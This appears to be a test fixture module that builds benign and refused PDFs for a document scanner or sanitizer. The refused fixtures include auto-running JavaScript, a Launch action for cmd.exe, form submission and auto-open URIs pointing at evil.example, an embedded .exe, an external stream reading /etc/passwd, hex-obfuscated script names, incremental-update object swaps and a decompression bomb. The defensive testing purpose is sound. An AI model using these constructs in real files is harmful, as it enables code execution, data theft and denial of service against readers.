"""PDFs: plain ones, and what is refused."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from functools import cache
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String


def assembled(*objects: bytes, head: bytes = b"%PDF-1.4\n", tail: bytes = b"") -> bytes:
    """A PDF of these objects, the first of them its catalogue, written down as they are."""
    content, table = head, b"0000000000 65535 f \n"
    for number, each in enumerate(objects, 1):
        table += b"%010d 00000 n \n" % len(content)
        content += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    size = len(objects) + 1
    trailer = b"trailer\n<< /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, len(content))
    return content + b"xref\n0 %d\n" % size + table + trailer + tail


EMPTY_PAGE = (
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [ 0 0 595 842 ] /Resources << >> >>",
)
PDF = assembled(*EMPTY_PAGE)
"""An empty page, A4."""
Change = Callable[[Pdf], object]


def paper(change: Change = lambda pdf: None, *, pages: int = 1, **how: Any) -> bytes:
    """A PDF of some pages with text on them, changed, and saved in some way (`Pdf.save`)."""
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        for number in range(pages):
            page = pdf.add_blank_page(page_size=(595, 842))
            page.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (Page %d) Tj ET" % number)
            font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
            page.Resources = Dictionary(Font=Dictionary(F1=font))
        change(pdf)
        pdf.save(out, **({"deterministic_id": "encryption" not in how} | how))
    return out.getvalue()


# --- what documents have ------------------------------------------------------------------------------------------


def opens_at_a_page(pdf: Pdf) -> None:
    """As Word writes it."""
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.XYZ, 0, 842, 1])


def turns_to_a_page(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))


def links_to_a_page_on_the_web(pdf: Pdf) -> None:
    action = Dictionary(S=Name.URI, URI=String("https://www.city.example/"))
    _annotated(pdf, Subtype=Name.Link, A=action)


def has_a_form_to_fill_in(pdf: Pdf) -> None:
    box = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name")))
    box.Rect = Array([0, 0, 100, 20])
    pdf.Root.AcroForm = Dictionary(Fields=Array([box]))
    pdf.pages[0].Annots = Array([box])


def has_a_signature(pdf: Pdf) -> None:
    value = Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), Contents=String("\0" * 64))
    field = pdf.make_indirect(Dictionary(FT=Name.Sig, T=String("sig"), V=value, Subtype=Name.Widget))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)


def has_its_description(pdf: Pdf) -> None:
    with pdf.open_metadata() as meta:
        meta["dc:title"] = "JavaScript入門"


def names_a_font_aa(pdf: Pdf) -> None:
    pdf.pages[0].Resources.Font["/AA"] = pdf.pages[0].Resources.Font.F1


# --- what is refused ----------------------------------------------------------------------------------------------


def runs_on_opening(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def runs_from_a_stream(pdf: Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)")))


def names_a_script(pdf: Pdf) -> None:
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("x")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))


def runs_on_turning_the_page(pdf: Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("x")))


def does_something_on_leaving_a_page(pdf: Pdf) -> None:
    pdf.pages[0].AA = Dictionary(C=Dictionary(S=Name.Named, N=Name.Print))


def runs_after_something_harmless(pdf: Pdf) -> None:
    after = Dictionary(S=Name.JavaScript, JS=String("x"))
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=after)


def launches_a_program(pdf: Pdf) -> None:
    _annotated(pdf, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe")))


def opens_a_file_elsewhere(pdf: Pdf) -> None:
    _annotated(pdf, Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("\\\\host\\share"), D=Array([0])))


def sends_itself_away(pdf: Pdf) -> None:
    _annotated(pdf, Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example")))


def opens_a_web_page_by_itself(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://evil.example"))


def carries_a_file(pdf: Pdf) -> None:
    pdf.attachments["a.exe"] = b"MZ"


def carries_a_file_at_a_pin(pdf: Pdf) -> None:
    _annotated(pdf, Subtype=Name.FileAttachment)


def carries_a_film(pdf: Pdf) -> None:
    _annotated(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary())


def carries_a_3d_model(pdf: Pdf) -> None:
    _annotated(pdf, Subtype=Name("/3D"))


def reads_a_stream_from_elsewhere(pdf: Pdf) -> None:
    pdf.Root.Loose = Stream(pdf, b"", F=String("/etc/passwd"))


def is_a_form_of_another_kind(pdf: Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp/>"))


def _annotated(pdf: Pdf, **what: Any) -> None:
    note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 10, 10]), **what)
    pdf.pages[0].Annots = Array([pdf.make_indirect(note)])


def carries(pattern: bytes) -> bytes:
    """With bytes in it that a scanner knows."""
    return assembled(*EMPTY_PAGE, b"<< /Length %d >>\nstream\n%s\nendstream" % (len(pattern), pattern))


# --- bytes no library writes --------------------------------------------------------------------------------------


def misspelt(content: bytes) -> bytes:
    """The same names with letters as #xx, which a reader of PDFs undoes and a search for words does not."""
    found = content.replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS", b"/J#53")
    assert found != content
    return found


def updated(content: bytes, number: int, changed: bytes) -> bytes:
    """A later revision behind the first, as editors append it: object `number` is another one now."""
    at = content.rfind(b"startxref") + 10
    before = content[at : content.find(b"\n", at)]
    start = len(content)
    content += b"%d 0 obj\n%s\nendobj\n" % (number, changed)
    table = b"xref\n%d 1\n%010d 00000 n \n" % (number, start)
    trailer = b"trailer\n<< /Root 1 0 R /Size 9 /Prev %s >>\nstartxref\n%d\n%%%%EOF\n" % (before, len(content))
    return content + table + trailer


@cache
def inflating(size: int) -> bytes:
    """Its catalogue and pages lie in an object stream that ends in so many blanks: a thousandth of them on disk."""
    places, inside = b"", b""
    for number, each in enumerate(EMPTY_PAGE, 1):
        places += b"%d %d " % (number, len(inside))
        inside += each + b" "
    packer = zlib.compressobj(9)
    body, blanks = packer.compress(places + inside), b" " * (1 << 20)
    body += b"".join(packer.compress(blanks) for _ in range(size >> 20)) + packer.flush()
    said = (len(EMPTY_PAGE), len(places), len(body))
    content = b"%PDF-1.5\n"
    first = len(content)
    content += b"4 0 obj\n<</Type/ObjStm/N %d/First %d/Length %d/Filter/FlateDecode>>\nstream\n" % said
    content += body + b"\nendstream\nendobj\n"
    second = len(content)
    rows = [(0, 0, 255), *((2, 4, i) for i in range(3)), (1, first, 0), (1, second, 0)]
    table = b"".join(kind.to_bytes(1) + where.to_bytes(4) + last.to_bytes(1) for kind, where, last in rows)
    content += b"5 0 obj\n<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>>\nstream\n" % len(table)
    return content + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % second


def nested(depth: int) -> bytes:
    """Arrays in arrays."""
    return assembled(*EMPTY_PAGE, b"[" * depth + b"]" * depth)
